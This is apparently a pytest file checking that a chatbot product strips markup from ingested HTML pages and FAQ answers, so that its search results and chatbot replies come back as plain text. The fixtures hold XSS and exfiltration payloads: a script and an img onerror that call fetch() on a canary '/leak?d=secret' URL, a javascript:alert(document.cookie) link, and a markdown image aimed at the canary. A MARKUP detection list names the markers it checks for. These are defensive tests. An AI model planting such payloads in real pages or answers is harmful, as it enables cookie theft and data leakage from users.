"""H3 (reliability-test-plan §6.1): markup smuggled into documents comes back as plain text.

An HTML page with a script, an ``<img onerror>``, a ``javascript:`` link and a markdown image
pointing at a canary is ingested for real (`intaj ingest`); searches and answers over the HTTP
API then carry its words but none of its markup, and no answer carries the canary link (which a
chat widget rendering markdown would fetch). Rendering in a real browser is not done here.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from psycopg_pool import ConnectionPool

from core.settings import Settings
from db import chatbots as chatbots_db
from intaj.http import create_app
from tests.cli import intaj
from tests.fix_api import api_settings, bearer
from tests.servers.asgi import serving
from tests.servers.site import Site, running_site

MARKUP = ("<script", "onerror", "javascript:", "<img", "<a ", "alert(")


@pytest.fixture
def canary() -> Iterator[Site]:
    with running_site() as site:
        yield site


def page(canary: Site) -> str:
    leak = canary.url("/leak?d=secret")
    return f"""<html><head><title>Repairs</title><script>fetch('{leak}')</script></head>
<body><main>
<h1>Repairs</h1>
<p>Puncture repairs cost eight dollars and take twenty minutes.<img src=x
onerror="fetch('{leak}')"></p>
<p>Read the <a href="javascript:alert(document.cookie)">repair terms</a> before booking.</p>
<p>Brake tuning is free with every repair ![logo]({leak}) for members.</p>
</main></body></html>"""


def test_h3_markup_in_documents_comes_back_as_text_and_never_as_a_link(
    tmp_path: Path, pool: ConnectionPool, settings: Settings, canary: Site, prefect_server: None
) -> None:
    (tmp_path / "repairs.html").write_text(page(canary))
    name = f"xss-{uuid.uuid4().hex[:8]}"
    try:
        code, out = intaj("ingest", str(tmp_path / "repairs.html"), "--chatbot", name, "--json")
        assert code == 0, out
        with pool.connection() as conn:
            bot = chatbots_db.find(conn, ref=name)
            assert bot is not None
            contents = [r[0] for r in conn.execute(
                "SELECT content FROM chunks WHERE chatbot_id = %s", (bot.id,))]  # fmt: skip
        assert any("Puncture repairs cost eight dollars" in c for c in contents)
        assert not [c for c in contents if any(m in c for m in MARKUP)]
        with serving(create_app(api_settings(settings), pool=pool)) as url:
            headers = bearer(bot.user_id)
            found = httpx.post(f"{url}/v1/chatbots/{bot.id}/search", headers=headers,
                               json={"query": "brake tuning repair"}, timeout=30)  # fmt: skip
            answer = httpx.post(f"{url}/v1/chatbots/{bot.id}/messages", headers=headers,
                                json={"message": "Is brake tuning free with a repair?"},
                                timeout=30)  # fmt: skip
        for reply in (found, answer):
            assert reply.status_code == 200, reply.text
            assert reply.headers["content-type"].startswith("application/json")
            assert not [m for m in MARKUP if m in reply.text], reply.text
        assert canary.url("/leak") not in answer.json()["answer"]
        assert canary.hits == []
    finally:
        with pool.connection() as conn:
            conn.execute("DELETE FROM chatbots WHERE name = %s", (name,))


def test_h3_an_faq_answer_with_markup_is_filtered_like_any_answer(
    pool: ConnectionPool, canary: Site
) -> None:
    """An FAQ answer is the owner's text, but it reaches visitors' widgets too: the answer
    that quotes it passes the output filter (no tag, no link off the allow-list)."""
    name = f"xss-faq-{uuid.uuid4().hex[:8]}"
    leak = canary.url("/leak?d=faq")
    poisoned = f"Eight dollars. <img src=x onerror=\"fetch('{leak}')\"> Terms: {leak}"
    try:
        code, out = intaj("faq", "add", "--chatbot", name, "--question",
                          "How much is a puncture repair?", "--answer", poisoned)  # fmt: skip
        assert code == 0, out
        code, out = intaj("ask", "--chatbot", name, "How much is a puncture repair?", "--json")
        assert code == 0, out
        reply = out
        assert reply["answer"].startswith("Eight dollars."), reply
        assert not [m for m in MARKUP if m in reply["answer"]], reply
        assert canary.url("/leak") not in reply["answer"]
        assert canary.hits == []
    finally:
        with pool.connection() as conn:
            conn.execute("DELETE FROM chatbots WHERE name = %s", (name,))
